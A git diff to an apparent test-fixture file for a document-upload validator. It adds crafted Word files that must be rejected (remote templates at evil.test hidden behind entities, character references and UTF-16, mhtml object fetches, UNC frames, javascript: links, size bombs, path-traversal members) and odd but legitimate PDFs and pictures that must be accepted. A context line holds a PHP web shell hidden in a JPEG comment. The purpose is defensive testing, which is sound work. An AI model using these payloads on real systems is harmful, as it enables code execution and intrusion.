@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto'
 import { deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import { compound, doc, docx, docxMembers, jpeg, pdf, png, WORD } from './documents'
@@ -53,6 +54,12 @@ async function hugePng(): Promise<Buffer> {
   ])
 }
 
+const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+
+/** A relationship part with one target outside of the archive. */
+export const relationship = (type: string, target: string) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${TYPES}/${type}" Target="${target}" TargetMode="External"/></Relationships>`
+
 /** Files whose name says one thing and whose content another, or two things at once; none may be kept. */
 export async function polyglots(): Promise<Polyglot[]> {
   const [aPdf, aJpeg, aPng] = await Promise.all([pdf(), jpeg(), png()])
@@ -61,8 +68,10 @@ export async function polyglots(): Promise<Polyglot[]> {
   const glued = (...parts: Buffer[]) => Buffer.concat(parts)
   const settings = (target: string) => ({
     name: 'word/_rels/settings.xml.rels',
-    data: `<Relationships><Relationship Type="attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
+    data: relationship('attachedTemplate', target),
   })
+  const points = (part: string, type: string, target: string) =>
+    word([{ name: `word/_rels/${part}.rels`, data: relationship(type, target) }])
   const list: [what: string, name: string, content: Buffer, type?: string][] = [
     ['a page called a picture', 'me.jpg', bytes(HTML), 'image/jpeg'],
     ['a page called a document', 'cv.pdf', bytes(HTML), 'application/pdf'],
@@ -95,8 +104,7 @@ export async function polyglots(): Promise<Polyglot[]> {
     ['a script of a web server called a picture', 'me.jpg', withComment(aJpeg, '<?php system($_GET[0]); ?>')],
     ['a moving picture called a still one', 'me.png', GIF, 'image/png'],
     ['a newer picture called an older one', 'me.jpg', webp, 'image/jpeg'],
-    ['one kind of picture called the other', 'me.png', aJpeg, 'image/png'],
-    ['the other called the one', 'me.jpg', aPng, 'image/jpeg'],
+    ['a moving picture called another one', 'me.jpg', GIF, 'image/jpeg'],
     ['a document called a picture', 'me.png', aPdf, 'image/png'],
     ['a picture called a document', 'cv.pdf', aJpeg, 'application/pdf'],
     ['an archive behind a picture', 'me.jpg', glued(aJpeg, docx())],
@@ -144,6 +152,65 @@ export async function polyglots(): Promise<Polyglot[]> {
     ['a control in a Word document', 'cv.docx', word([{ name: 'word/activeX/activeX1.xml', data: '<x/>' }])],
     ['a template from elsewhere', 'cv.docx', word([settings('https://evil.test/t.dotm')])],
     ['a template from a share', 'cv.docx', word([settings('file://evil.test/t.dotm')])],
+    ['a template behind references', 'cv.docx', word([settings('&#104;ttp&#58;//evil.test/t.dotm')])],
+    [
+      'a template behind an entity',
+      'cv.docx',
+      word([
+        {
+          name: 'word/_rels/settings.xml.rels',
+          data: `<!DOCTYPE r [<!ENTITY t "https://evil.test/t.dotm">]>${relationship('attachedTemplate', '&t;').replace(/^.*?\r\n/, '')}`,
+        },
+      ]),
+    ],
+    [
+      'a template in UTF-16',
+      'cv.docx',
+      word([
+        {
+          name: 'word/_rels/settings.xml.rels',
+          data: Buffer.from(
+            `\ufeff${relationship('attachedTemplate', 'https://evil.test/t.dotm')}`,
+            'utf16le',
+          ),
+        },
+      ]),
+    ],
+    [
+      'an object that is fetched',
+      'cv.docx',
+      points('document.xml', 'oleObject', 'mhtml:http://evil.test/x.html!x'),
+    ],
+    [
+      'a template of another part',
+      'cv.docx',
+      points('document.xml', 'attachedTemplate', 'https://evil.test/t.dotm'),
+    ],
+    ['a picture that is fetched', 'cv.docx', points('footer1.xml', 'image', 'https://evil.test/pixel.png')],
+    ['a frame that is fetched', 'cv.docx', points('webSettings.xml', 'frame', '\\\\evil.test\\x')],
+    ['a link that is a script', 'cv.docx', points('document.xml', 'hyperlink', 'javascript:alert(1)')],
+    [
+      'a target elsewhere without saying so',
+      'cv.docx',
+      word([
+        {
+          name: 'word/_rels/document.xml.rels',
+          data: relationship('oleObject', 'https://evil.test/x').replace(' TargetMode="External"', ''),
+        },
+      ]),
+    ],
+    ['a page as a part', 'cv.docx', word([{ name: 'word/afchunk.mht', data: HTML }])],
+    ['a bomb of small size', 'cv.docx', word([{ name: 'word/media/x', data: Buffer.alloc(3_000_000) }])],
+    [
+      'much more than a document has in it',
+      'cv.docx',
+      word(
+        Array.from({ length: 3 }, (_, i) => ({
+          name: `word/media/${i}`,
+          data: Array.from({ length: 200 }, () => randomBytes(1000).toString('hex').padEnd(42_000)).join(''),
+        })),
+      ),
+    ],
     ['a member that climbs out', 'cv.docx', word([{ name: '../../../../etc/cron.d/x', data: 'x' }])],
     ['a member that climbs out of Windows', 'cv.docx', word([{ name: '..\\..\\x.dll', data: 'x' }])],
     ['a member with an absolute name', 'cv.docx', word([{ name: '/etc/passwd', data: 'x' }])],
@@ -183,8 +250,27 @@ export async function polyglots(): Promise<Polyglot[]> {
 
 /** Real files with oddities that real people send; all must be taken. */
 export async function oddButRight(): Promise<Polyglot[]> {
-  const [aPdf, aJpeg] = await Promise.all([pdf(), jpeg()])
+  const [aPdf, aJpeg, aPng] = await Promise.all([pdf(), jpeg(), png()])
+  const text = aPdf.toString('latin1')
   return [
+    { what: 'a picture named as another kind', name: 'scan.jpg', content: aPng, type: 'image/jpeg' },
+    { what: 'the other one named as the first', name: 'scan.png', content: aJpeg, type: 'image/png' },
+    { what: 'a document behind a line break', name: 'cv.pdf', content: bytes(`\r\n${text}`) },
+    {
+      what: 'a document behind a mark of its encoding',
+      name: 'cv.pdf',
+      content: bytes(`\xef\xbb\xbf${text}`),
+    },
+    {
+      what: 'a document whose table was displaced by a repair',
+      name: 'cv.pdf',
+      content: bytes(text.replace(/startxref\s+\d+/, 'startxref\n0')),
+    },
+    {
+      what: 'a document whose table lies beyond its end',
+      name: 'cv.pdf',
+      content: bytes(text.replace(/startxref\s+\d+/, 'startxref\n99999999')),
+    },
     {
       what: 'a camera picture with bytes behind its end',
       name: 'IMG_0001.JPG',
@@ -228,11 +314,11 @@ export async function oddButRight(): Promise<Polyglot[]> {
         docxMembers([
           {
             name: 'word/_rels/settings.xml.rels',
-            data: '<Relationships><Relationship Target="file:///C:/Users/me/CV.dotx" TargetMode="External"/></Relationships>',
+            data: relationship('attachedTemplate', 'file:///C:/Users/me/CV.dotx'),
           },
           {
             name: 'word/_rels/document.xml.rels',
-            data: '<Relationships><Relationship Target="https://tavan.test" TargetMode="External"/></Relationships>',
+            data: relationship('hyperlink', 'https://tavan.test/?a=1&amp;b=2'),
           },
           { name: 'word/media/image1.svg', data: '<svg/>' },
           { name: 'word/media/', data: '' },
